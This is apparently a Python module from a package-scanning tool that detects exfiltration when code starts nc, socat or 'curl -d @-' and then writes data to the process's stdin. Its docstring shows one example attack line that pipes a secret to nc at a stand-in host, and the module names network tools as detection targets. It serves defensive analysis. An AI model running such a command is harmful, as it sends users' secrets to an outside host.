"""Data written to a started network tool's stdin is data sent (ADR 0079).

``p = Popen(['nc', 'evil.example', '9'], stdin=PIPE); p.communicate(secret)``: the command
line names the host and no data, and the data goes in through the process's stdin. When
:class:`flow.Interpreter` records a process that starts a tool that sends what it reads
(``nc``, ``socat``, ``curl -d @-``: :data:`sinks.NETWORK_TOOL`), the process object it
returns is marked with its place (:data:`PIPED`) and the command kept
(``Interpreter.pipes``); a later ``communicate``, ``stdin.write`` or ``stdin.writelines`` on
it is recorded as that command run with the written data on its line.

Apart from :mod:`flow` because it is one route with its own marker and bound, met at two
places of a call. Pure and bounded: :data:`MAX_PIPES` started tools per module. What it
deliberately does not do: follow the process object through a container or another module,
or read a tool started with a command that does not fold.
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING

from airlock.imports.packages import flowtypes
from airlock.imports.packages.sinks import NETWORK_TOOL

if TYPE_CHECKING:
    from airlock.imports.packages.flow import Interpreter
    from airlock.imports.packages.flowtypes import Val, When

MAX_PIPES = 4096  # started network tools per module whose stdin is watched (more hold)
PIPED = "started-tool:"  # a started network tool's process object: PIPED + its place
# What writes to a started process's stdin.
PIPE_WRITES = frozenset({"communicate", "write", "writelines"})


def started(interp: Interpreter, node: ast.Call, text: str, labels: frozenset[str]) -> Val | None:
    """The process object of a started process whose command ``text`` names a tool that
    sends what it reads, marked with its place; None for any other (or past the bound)."""
    if not NETWORK_TOOL.search(text):
        return None
    piped = f"{PIPED}{node.lineno}:{node.col_offset}"
    if len(interp.pipes) >= MAX_PIPES and piped not in interp.pipes:
        # What is written to its stdin would be sent unseen (ADR 0189: 64 tools started
        # first, and the secret written to the 65th was no exfiltration).
        interp.trace.past(f"a network tool started past the {MAX_PIPES} whose stdin is watched")
        return None
    # A started ``nc``/``curl -d @-``: what is written to its stdin is sent (ADR 0079).
    interp.pipes[piped] = text
    return flowtypes.Val(ref=piped, labels=labels)


def written(
    interp: Interpreter, node: ast.Call, ref: str, when: When, labels: frozenset[str]
) -> None:
    """A process event for data written to a started tool's stdin (``ref`` is the call)."""
    if ref.startswith(PIPED) and ref.rpartition(".")[2] in PIPE_WRITES:
        # ``p.communicate(data)``, ``p.stdin.write(data)`` of a started ``nc host``: the
        # data goes where the command sends it, as if it were on its line (ADR 0079).
        command = interp.pipes.get(ref.partition(".")[0], "")
        event = flowtypes.Event(
            "process", "subprocess.Popen.stdin", node.lineno, when, command, labels
        )
        interp.trace.events.append(event)
